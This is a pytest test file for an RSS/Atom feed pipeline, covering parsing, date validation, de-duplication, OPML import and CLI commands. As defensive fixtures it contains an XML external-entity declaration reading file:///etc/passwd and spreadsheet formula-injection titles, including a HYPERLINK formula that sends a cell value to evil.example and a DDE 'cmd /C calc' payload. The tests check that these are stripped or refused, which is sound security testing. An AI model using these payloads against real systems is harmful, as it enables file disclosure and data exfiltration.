"""Feed parsing, de-duplication end to end, OPML import and the ``feeds`` commands (issue 3)."""

from __future__ import annotations

import os
import subprocess
import sys
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select

from pipeline import schema
from pipeline.cli import cli
from pipeline.cli_feeds import feeds_group
from pipeline.config import FeedConfig, load_config
from pipeline.errors import SourceError
from pipeline.feed_cycle import check_feed
from pipeline.feed_text import html_to_text, parse_date, strip_internal_dtd
from pipeline.feeds import ParsedFeed, parse_feed
from pipeline.fetch import FetchResult
from pipeline.normalise import normalise_item
from pipeline.opml import read_opml
from pipeline.store import open_store
from tests.feed_server import (  # noqa: F401
    DATA,
    FeedServer,
    feed_server_fixture,
    ingest,
    make_config,
    rss,
    serve_data_file,
    story,
)

NOW = datetime(2024, 3, 7, 12, 0, tzinfo=UTC)
FEED = FeedConfig(name="test", url="https://example.org/feed.xml")


def _parse(body: bytes, content_type: str | None = "application/rss+xml; charset=utf-8",
           feed: FeedConfig = FEED) -> ParsedFeed:
    return parse_feed(FetchResult(feed.url, 200, body, content_type=content_type), feed, NOW)


def _data(name: str) -> ParsedFeed:
    return _parse((DATA / name).read_bytes())


def test_parse_feed_turns_entries_into_plain_text_items() -> None:
    parsed = _data("good_atom.xml")
    assert parsed.error is None and parsed.entries_seen == 3
    first, second, third = parsed.items
    assert first.title == "Colombia y Estados Unidos revisan la certificación antidrogas"
    assert first.text == "Los gobiernos discutieron la cooperación.\nSegundo párrafo."
    assert first.page_date == date(2024, 3, 5)  # 23:30 at -05:00: the publisher's day
    assert (first.language, first.origin, first.source, first.fetched_at) == ("es", "test", "test", NOW)
    assert first.guid == "urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a"
    assert second.page_date == date(2024, 3, 4)  # no published: updated is used
    assert third.title == "Aranceles y comercio" and third.text == "Resumen & análisis"
    assert parsed.summary_only == frozenset({1, 2})


def test_parse_feed_strips_scripts_and_refuses_non_web_links() -> None:
    parsed = _data("script_links.xml")
    everything = " ".join(f"{i.title} {i.text} {i.url} {i.guid}" for i in parsed.items)
    for bad in ("alert", "stealCookies", "display:none", "document.write", "onclick", "<"):
        assert bad not in everything
    assert [i.url for i in parsed.items] == [None] * 4 + ["https://example.org/story/5?utm_medium=rss&id=5"]
    assert parsed.items[0].guid is None
    assert sum("dropped non-web link" in p for p in parsed.problems) == 4
    assert any("dropped unsafe id" in p for p in parsed.problems)
    assert parsed.items[0].problems  # each item keeps its own problems too


def test_parse_feed_refuses_impossible_dates_that_feedparser_rewrites() -> None:
    parsed = _data("bad_dates.xml")
    dates = {i.title: i.page_date for i in parsed.items}
    for title in ("Thirty-first of February", "ISO thirtieth of February", "Hour twenty-five",
                  "Unreadable", "Month thirteen"):
        assert dates[title] is None
    assert dates["Good date"] == date(2024, 3, 5)  # 22:30 at -05:00, the 6th in UTC
    assert sum("not a possible date" in p for p in parsed.problems) == 4
    far = next(i for i in parsed.items if i.title == "Far future")
    article = normalise_item(far, NOW)
    assert article.page_date is None and article.event_date == NOW.date()
    assert article.date_flags == ("future-date:2100-01-01", "undated")


def test_parse_feed_keeps_formula_titles_verbatim() -> None:
    titles = [i.title for i in _data("formula_titles.xml").items]
    assert titles == ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+2", "+SUM(A1:A9)",
                      "@cmd|' /C calc'!A0"]


@pytest.mark.parametrize(("body", "error"), [
    (b"", "empty response body"),
    (b"   \n", "empty response body"),
    ((DATA / "zero_entries.xml").read_bytes(), "feed has no entries"),
    (b"<html><body>Not a feed</body></html>", "feed has no entries"),
    (b"\x00\xff garbage <<<", "not a readable feed"),
])
def test_parse_feed_without_entries_is_an_error(body: bytes, error: str) -> None:
    parsed = _parse(body)
    assert parsed.items == [] and parsed.error is not None and parsed.error.startswith(error)


def test_parse_feed_never_opens_a_body_as_a_path(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    parsed = _parse(str(secret).encode())
    assert parsed.error and "TOP-SECRET" not in repr(parsed)


def test_parse_feed_reads_utf8_mislabelled_as_latin1() -> None:
    body = rss("Mislabelled", [{"title": "Bogotá – políticas", "link": "https://example.org/m",
                                "description": "Negociación"}]).encode("utf-8")
    parsed = _parse(body, content_type="application/rss+xml; charset=iso-8859-1")
    assert parsed.items[0].title == "Bogotá – políticas"
    assert any("bytes are UTF-8" in p for p in parsed.problems)


def test_parse_feed_language_falls_back_to_config() -> None:
    body = rss("No language", [story(1)], language=None).encode()
    spanish = FeedConfig(name="es", url="https://example.org/es.xml", language="es")
    assert _parse(body, feed=spanish).items[0].language == "es"
    assert _parse(body).items[0].language is None
    bogus = rss("Bogus language", [story(1)], language="xx").encode()
    assert _parse(bogus, feed=spanish).items[0].language == "es"  # "xx" names no language
    tagged = rss("Tagged", [story(1)], language="es-CO").encode()
    assert _parse(tagged).items[0].language == "es-CO"


@pytest.mark.parametrize(("raw", "expected"), [
    ("Tue, 05 Mar 2024 10:00:00 GMT", date(2024, 3, 5)),
    ("Tue, 05 Mar 2024 23:00:00 -0300", date(2024, 3, 5)),  # the publisher's day, not UTC's
    ("Mon, 16 Nov 2026 22:00:00 EST", date(2026, 11, 16)),
    ("Tue, 17 Nov 2026 01:30:00 +0900", date(2026, 11, 17)),
    ("Tue, 17 Nov 2026 01:30:00", date(2026, 11, 17)),  # no zone: read as UTC
    ("2024-03-05T10:00:00Z", date(2024, 3, 5)),
    ("2024-03-05T22:00:00-04:00", date(2024, 3, 5)),
    ("2024-03-05T00:30:00+14:00", date(2024, 3, 5)),
    ("2024-03-05T23:30:00", date(2024, 3, 5)),
    ("2024-03-05", date(2024, 3, 5)),
    ("2024-03", date(2024, 3, 1)),
    ("2024-02-29T00:00:00Z", date(2024, 2, 29)),
    ("2023-02-29T00:00:00Z", None),
    ("Sat, 31 Feb 2024 10:00:00 GMT", None),
    ("2024-03-05T10:00:00+25:00", None),
    ("0000-01-01", None),
])
def test_parse_date_accepts_real_dates_only(raw: str, expected: date | None) -> None:
    assert parse_date(raw)[0] == expected


def test_parse_feed_dates_an_evening_story_on_the_publishers_day() -> None:
    evening = {**story(1), "pubDate": "Mon, 16 Nov 2026 23:30:00 -0500"}  # 04:30 UTC on the 17th
    iso = {**story(2), "pubDate": "2026-11-17T01:30:00+09:00"}  # 16:30 UTC on the 16th
    items = _parse(rss("Bogotá and Seoul", [evening, iso]).encode()).items
    assert [item.page_date for item in items] == [date(2026, 11, 16), date(2026, 11, 17)]


def test_strip_internal_dtd_keeps_only_single_character_entities() -> None:
    doc = (b'<?xml version="1.0"?>\n<!-- c -->\n<!DOCTYPE rss [\n<!ENTITY nbsp "&#160;">\n'
           b'<!ENTITY e "\xc3\xa9">\n<!ENTITY big "' + b"A" * 5000 + b'">\n'
           b'<!ENTITY tricky "]> still inside">\n<!ENTITY x SYSTEM "file:///etc/passwd">\n]>\n'
           b"<rss><title>&big;&nbsp;&x;</title><![CDATA[<!DOCTYPE html>]]></rss>")
    cleaned, problems = strip_internal_dtd(doc)
    assert b"&#160;" in cleaned and b'<!ENTITY e "\xc3\xa9">' in cleaned
    assert b"AAAA" not in cleaned and b"passwd" not in cleaned and b"still inside" not in cleaned
    assert cleaned.endswith(b"<rss><title>&big;&nbsp;&x;</title><![CDATA[<!DOCTYPE html>]]></rss>")
    assert any("external entity" in p for p in problems)
    assert any("3 entity declarations dropped, 2 single-character" in p for p in problems)


def test_strip_internal_dtd_leaves_external_only_doctype_and_drops_stray_entities() -> None:
    netscape = (b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
                b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">')
    assert strip_internal_dtd(netscape + b"<rss/>") == (netscape + b"<rss/>", ())
    stray = b'<!DOCTYPE rss SYSTEM "x.dtd">\n<!ENTITY big "' + b"B" * 100 + b'">\n<rss/>'
    cleaned, problems = strip_internal_dtd(stray)
    assert b"BBB" not in cleaned and problems


def test_html_to_text_decodes_once_and_skips_code() -> None:
    assert html_to_text("<p>a &amp;amp; b</p><script>x()</script><style>p{}</style>c") == "a &amp; b\nc"
    assert html_to_text("plain   text\n here") == "plain text here"
    assert html_to_text("<svg><text>hidden</text></svg>shown &lt;b&gt;") == "shown <b>"


def _two_feeds(server: FeedServer, tmp_path: Path) -> tuple[str, str]:
    first = server.add("/dedup/a.xml", rss("A", [story(1), story(2)]))
    shared = dict(story(1), link="https://EXAMPLE.org/news/1?utm_campaign=x&fbclid=1#top")
    second = server.add("/dedup/b.xml", rss("B", [shared, story(3)]))
    return first, second


def test_same_story_in_two_feeds_is_stored_once_with_both_sources(
    feed_server: FeedServer, tmp_path: Path
) -> None:
    first, second = _two_feeds(feed_server, tmp_path)
    config = make_config(tmp_path, [{"name": "a", "url": first}, {"name": "b", "url": second}])
    engine = open_store(config.database.url)
    result = ingest(config, engine)
    assert result.upserts["a"].added == 2 and result.upserts["b"].added == 1
    with engine.connect() as conn:
        assert conn.execute(select(func.count()).select_from(schema.articles)).scalar_one() == 3
        rows = conn.execute(select(schema.article_sources.c.source)
                            .join(schema.articles)
                            .where(schema.articles.c.url == "https://example.org/news/1")).all()
    assert sorted(r.source for r in rows) == ["a", "b"]


def test_changed_entry_updates_its_article(feed_server: FeedServer, tmp_path: Path) -> None:
    url = feed_server.add("/update/feed.xml", rss("U", [story(7)]), etag='"1"')
    config = make_config(tmp_path, [{"name": "u", "url": url}])
    engine = open_store(config.database.url)
    assert ingest(config, engine).upserts["u"].added == 1
    assert ingest(config, engine).outcomes["u"].status == "not-modified"
    feed_server.add("/update/feed.xml", rss("U", [story(7, extra="Revised figures.")]), etag='"2"')
    result = ingest(config, engine)
    assert result.upserts["u"].updated == 1 and result.upserts["u"].added == 0
    with engine.connect() as conn:
        text = conn.execute(select(schema.articles.c.text)).scalar_one()
    assert "Revised figures." in text


def test_one_story_in_two_feeds_with_different_text_keeps_one_version(
    feed_server: FeedServer, tmp_path: Path
) -> None:
    """QA 3 #1: syndication. The feed whose text is stored may correct it; another feed's copy
    replaces it only when dated later. Before, every cycle rewrote the article to the copy of
    the feed listed last, and back, counting two updates a cycle."""
    original, revised = story(5, extra="First take."), story(5, extra="Corrected take.")
    first = feed_server.add("/syn/a.xml", rss("A", [original]))
    second = feed_server.add("/syn/b.xml", rss("B", [revised]))
    feeds = [{"name": "a", "url": first}, {"name": "b", "url": second}]
    config = make_config(tmp_path, feeds)
    engine = open_store(config.database.url)

    def stored() -> tuple[str, str]:
        with engine.connect() as conn:
            row = conn.execute(select(schema.articles.c.text, schema.articles.c.origin)).one()
        return ("Corrected" if "Corrected" in row.text else "First", row.origin)

    assert ingest(config, engine).upserts["a"].added == 1
    assert stored() == ("First", "a")
    for order in (feeds, feeds[::-1], feeds):  # the config's order no longer decides
        result = ingest(make_config(tmp_path, order), engine)
        assert [u.updated for u in result.upserts.values()] == [0, 0]
        assert stored() == ("First", "a")
    feed_server.add("/syn/b.xml", rss("B", [revised | {"pubDate": "Wed, 06 Mar 2024 09:00:00 GMT"}]))
    assert ingest(config, engine).upserts["b"].updated == 1  # a later copy from b replaces it
    assert stored() == ("Corrected", "b")
    feed_server.add("/syn/a.xml", rss("A", [story(5, extra="Second take.")]))
    assert ingest(config, engine).upserts["a"].updated == 0  # a's copy is older than b's now
    feed_server.add("/syn/b.xml", rss("B", [story(5, extra="Third take.") | {
        "pubDate": "Wed, 06 Mar 2024 09:00:00 GMT"}]))
    assert ingest(config, engine).upserts["b"].updated == 1  # b corrects its own copy
    with engine.connect() as conn:
        assert "Third take." in conn.execute(select(schema.articles.c.text)).scalar_one()


def test_check_feed_reports_without_storing(feed_server: FeedServer, tmp_path: Path) -> None:
    url = serve_data_file(feed_server, "good_atom.xml")
    config = make_config(tmp_path, [])
    outcome = check_feed(url, config)
    assert (outcome.status, outcome.http_status, len(outcome.items)) == ("ok", 200, 3)
    assert not (tmp_path / "store.db").exists()
    assert check_feed("ftp://example.org/feed", config).status == "failed"


def test_feeds_check_command_lists_entries_and_fails_on_error(
    feed_server: FeedServer, tmp_path: Path
) -> None:
    config = make_config(tmp_path, [])
    runner = CliRunner()
    good = serve_data_file(feed_server, "formula_titles.xml")
    result = runner.invoke(feeds_group, ["check", good, "--limit", "2"], obj={"config": config})
    assert result.exit_code == 0, result.output
    assert '=HYPERLINK("http://evil.example/?x="&A1,"Click")' in result.output
    assert "... and 2 more" in result.output
    missing = feed_server.add("/cli/missing.xml", b"gone", status=404)
    result = runner.invoke(feeds_group, ["check", missing], obj={"config": config})
    assert result.exit_code == 1 and isinstance(result.exception, SourceError)
    assert str(result.exception) == f"{missing}: HTTP 404 Not Found"


def test_feeds_command_lists_health_by_default(feed_server: FeedServer, tmp_path: Path) -> None:
    good = feed_server.add("/cli/good.xml", rss("G", [story(1)]))
    bad = feed_server.add("/cli/broken.xml", b"broken", status=500)
    feeds: list[dict[str, Any]] = [{"name": "good", "url": good}, {"name": "broken", "url": bad},
             {"name": "off", "url": good, "enabled": False}]
    config = make_config(tmp_path, feeds)
    runner = CliRunner()
    engine = open_store(config.database.url)
    before = runner.invoke(feeds_group, [], obj={"config": config})
    assert before.exit_code == 0 and "never fetched" in before.output
    ingest(config, engine)
    result = runner.invoke(feeds_group, [], obj={"config": config})
    assert result.exit_code == 0, result.output
    lines = {line.split()[0]: line for line in result.output.splitlines()[1:]}
    assert " ok " in lines["good"] and lines["good"].split()[-1] == "1"
    assert "failing, retry" in lines["broken"] and "HTTP 500 Internal Server Error" in lines["broken"]
    assert "disabled" in lines["off"]


def test_feeds_list_refuses_a_missing_database_and_creates_nothing(tmp_path: Path) -> None:
    path = tmp_path / "config.yaml"
    path.write_text(CONFIG_YAML.replace("sqlite:///store.db", "sqlite:///typo/stroe.db"))
    for args in ([], ["list"]):
        result = CliRunner().invoke(cli, ["--config", str(path), "feeds", *args])
        assert result.exit_code == 1, result.output
        missing = tmp_path / "typo" / "stroe.db"
        assert result.output == (f"Error: no database at {missing} (sqlite:///{missing}); "
                                 "fill it with `policy-risk run`\n")
    assert not (tmp_path / "typo").exists()


CONFIG_YAML = """\
# Analyst config: this comment must survive an import.
database:
  url: sqlite:///store.db
sources:
  feeds:
    - name: Existing   # kept
      url: https://existing.example.org/feed.xml
signals:
  risk:
    label: Risk
    weight: 1.0
"""


def test_feeds_import_adds_new_feeds_and_keeps_comments(tmp_path: Path) -> None:
    path = tmp_path / "config.yaml"
    path.write_text(CONFIG_YAML)
    result = CliRunner().invoke(feeds_group, ["import", str(DATA / "subscriptions.opml")],
                                obj={"config": load_config(path)})
    assert result.exit_code == 0, result.output
    assert "3 feeds added" in result.output and "2 skipped" in result.output
    assert ("A running `policy-risk watch` on this config fetches them from its next cycle."
            in result.output)
    text = path.read_text()
    assert "# Analyst config: this comment must survive an import." in text and "# kept" in text
    feeds = load_config(path).sources.feeds
    assert [f.name for f in feeds] == ["Existing", "State Dept", "El Tiempo", "USTR"]
    again = CliRunner().invoke(feeds_group, ["import", str(DATA / "subscriptions.opml")],
                               obj={"config": load_config(path)})
    assert "0 feeds added" in again.output and "next cycle" not in again.output


QUOTED_CONFIG = """\
# my config
database:
  url: sqlite:///store.db
sources:
  feeds:
    - {name: "Wire A", url: "https://a.example/rss.xml", language: en}   # main wire
    - name: 'Wire B'      # quoted name
      url: "https://b.example/rss.xml"  # b
      enabled: false
    # - {name: Old, url: "https://old.example/rss"}   (paused)

  # fetch limits below
  fetch: {allow_private_addresses: true}
signals:
  risk: {label: "Risk", weight: 1.0}   # the only signal
"""


@pytest.mark.parametrize("ending", ["", "\n"])
def test_feeds_import_keeps_every_existing_line_byte_for_byte(tmp_path: Path, ending: str) -> None:
    path = tmp_path / "config.yaml"
    head, tail = QUOTED_CONFIG.split("\n\n  # fetch limits below\n")
    # the second form ends with the list, without a final newline
    before = QUOTED_CONFIG if ending else tail.split("\n", 1)[1] + "\n" + head
    path.write_text(before)
    result = CliRunner().invoke(feeds_group, ["import", str(DATA / "subscriptions.opml")],
                                obj={"config": load_config(path)})
    assert result.exit_code == 0, result.output
    old, new = before.splitlines(), path.read_text().splitlines()
    at = old.index("    # - {name: Old, url: \"https://old.example/rss\"}   (paused)") + 1
    assert new[:at] == old[:at] and new[at + 8 :] == old[at:]  # 4 feeds, 2 lines each
    assert [line[:6] for line in new[at : at + 8]] == ["    - ", "      "] * 4
    feeds = load_config(path).sources.feeds
    assert [f.name for f in feeds] == [
        "Wire A", "Wire B", "State Dept", "El Tiempo", "USTR", "Existing"]
    assert feeds[1].enabled is False and feeds[0].language == "en"


def test_feeds_import_fills_an_empty_flow_list_leaving_other_lines_alone(tmp_path: Path) -> None:
    path = tmp_path / "config.yaml"
    before = QUOTED_CONFIG.split("  feeds:\n")[0] + "  feeds: []   # none yet\n" + (
        QUOTED_CONFIG.split("(paused)\n")[1])
    path.write_text(before)
    result = CliRunner().invoke(feeds_group, ["import", str(DATA / "subscriptions.opml")],
                                obj={"config": load_config(path)})
    assert result.exit_code == 0, result.output
    old, new = before.splitlines(), path.read_text().splitlines()
    at = old.index("  feeds: []   # none yet")
    assert new[at] == "  feeds:   # none yet"
    assert new[:at] == old[:at] and new[at + 9 :] == old[at + 1 :]
    assert new[at + 1] == "    - name: State Dept"
    assert len(load_config(path).sources.feeds) == 4


def test_read_opml_refuses_doctype(tmp_path: Path) -> None:
    path = tmp_path / "evil.opml"
    path.write_text('<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]><opml><body>'
                    '<outline xmlUrl="https://example.org/&x;"/></body></opml>')
    with pytest.raises(SourceError, match="DOCTYPE or ENTITY declaration is refused"):
        read_opml(path)


def test_feeds_import_accepts_upper_case_schemes_and_skips_fragment_variants(
        tmp_path: Path) -> None:
    path = tmp_path / "config.yaml"
    path.write_text(CONFIG_YAML)
    opml = tmp_path / "more.opml"
    opml.write_text(
        '<opml version="2.0"><body>'
        '<outline text="Upper" xmlUrl="HTTP://NEW.EXAMPLE/rss"/>'
        '<outline text="Same" xmlUrl="https://EXISTING.example.org/feed.xml#latest"/>'
        '<outline text="Upper again" xmlUrl="http://new.example/rss#top"/>'
        '<outline text="Ftp" xmlUrl="ftp://files.example/rss"/>'
        '</body></opml>')
    result = CliRunner().invoke(feeds_group, ["import", str(opml)],
                                obj={"config": load_config(path)})
    assert result.exit_code == 0, result.output
    assert "1 feeds added" in result.output and "3 skipped" in result.output
    assert "skipped  Same: already in the config" in result.output
    assert "skipped  Upper again: already in the config" in result.output
    assert ("skipped  Ftp: expected an http:// or https:// URL, got 'ftp://files.example/rss'"
            in result.output)
    assert "String should match" not in result.output
    feeds = load_config(path).sources.feeds
    assert [(f.name, f.url) for f in feeds] == [
        ("Existing", "https://existing.example.org/feed.xml"), ("Upper", "http://NEW.EXAMPLE/rss")]


def test_read_opml_explains_a_url_without_a_host_in_plain_words(tmp_path: Path) -> None:
    path = tmp_path / "odd.opml"
    path.write_text('<opml><body><outline text="Odd" xmlUrl="https:///rss"/></body></opml>')
    feeds, skipped = read_opml(path)
    assert feeds == []
    assert skipped == [("Odd", "expected an http:// or https:// URL, got 'https:///rss'")]


@pytest.mark.parametrize("args", [["--help"], ["list", "--help"], ["import", "--help"],
                                  ["check", "--help"]])
def test_feeds_commands_have_help_with_an_example(args: list[str]) -> None:
    result = CliRunner().invoke(feeds_group, args)
    assert result.exit_code == 0 and "Example: policy-risk feeds" in result.output


ARTICLE_HTML = (
    "<html><head><title>Page</title><script>track()</script></head><body>"
    "<nav>Menu Home About Contact</nav><article><h1>Certification review</h1>"
    + "".join(f"<p>Paragraph {n}: officials in Bogotá and Washington discussed certification, "
              "aid conditions and counter-narcotics cooperation at length today.</p>"
              for n in range(1, 9))
    + "</article><footer>Copyright footer</footer></body></html>"
)


def test_full_text_feed_fetches_linked_pages_once(feed_server: FeedServer, tmp_path: Path) -> None:
    page = feed_server.add("/ft/page.html", ARTICLE_HTML,
                           headers={"Content-Type": "text/html; charset=utf-8"})
    entries = [{"title": "Review", "link": page, "description": "Short summary."},
               {"title": "Gone", "link": feed_server.url("/ft/missing.html"),
                "description": "Only a summary."}]
    url = feed_server.add("/ft/feed.xml", rss("FT", entries), etag='"f1"')
    config = make_config(tmp_path, [{"name": "ft", "url": url, "full_text": True}])
    engine = open_store(config.database.url)
    items = ingest(config, engine).outcomes["ft"].items
    assert "Paragraph 8" in items[0].text
    assert "track()" not in items[0].text and "Menu Home" not in items[0].text
    assert items[1].text == "Only a summary."
    problems = ingest(config, engine).outcomes["ft"].problems  # 304: nothing fetched
    assert problems == ()
    hits = feed_server.hits["/ft/page.html"]
    new_page = feed_server.add("/ft/new.html", ARTICLE_HTML.replace("Paragraph", "Section"),
                               headers={"Content-Type": "text/html"})
    entries.append({"title": "New", "link": new_page, "description": "New one."})
    feed_server.add("/ft/feed.xml", rss("FT", entries), etag='"f2"')
    result = ingest(config, engine)
    assert feed_server.hits["/ft/page.html"] == hits  # the stored article's text was reused
    assert result.upserts["ft"].unchanged == 2 and result.upserts["ft"].added == 1
    assert "Section 8" in result.outcomes["ft"].items[2].text
    assert any("missing.html: HTTP 404" in p for p in result.outcomes["ft"].problems)


def test_full_text_of_a_non_html_page_is_a_problem_not_trafilatura_noise_on_stderr(
    feed_server: FeedServer, tmp_path: Path
) -> None:
    xml_page = feed_server.add("/ft-quiet/data.xml", rss("Not an article", [story(1)]),
                               headers={"Content-Type": "application/xml"})
    url = feed_server.add("/ft-quiet/feed.xml", rss("FT", [
        {"title": "Links to XML", "link": xml_page, "description": "Short summary."}]))
    config = tmp_path / "config.yaml"
    config.write_text(
        f"database:\n  url: sqlite:///{tmp_path / 'store.db'}\nsources:\n  feeds:\n"
        f'    - {{name: FT, url: "{url}", full_text: true}}\n'
        "  fetch: {allow_private_addresses: true}\n"
        "signals:\n  risk: {label: Risk, weight: 1.0}\n", encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "pipeline", "--config", str(config), "feeds", "check", url],
        capture_output=True, text=True, timeout=120, check=False,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])},
    )
    assert result.returncode == 0, result.stderr
    assert f"problem: full text for {xml_page}: no main text found" in result.stdout
    assert result.stderr == ""  # trafilatura's own ERROR/WARNING lines are not shown


def test_feeds_module_serves_the_cycle_names() -> None:
    from pipeline import feed_cycle, feeds

    assert feeds.collect_feeds is feed_cycle.collect_feeds
    assert feeds.FeedOutcome is feed_cycle.FeedOutcome
    with pytest.raises(AttributeError):
        feeds.no_such_name  # noqa: B018
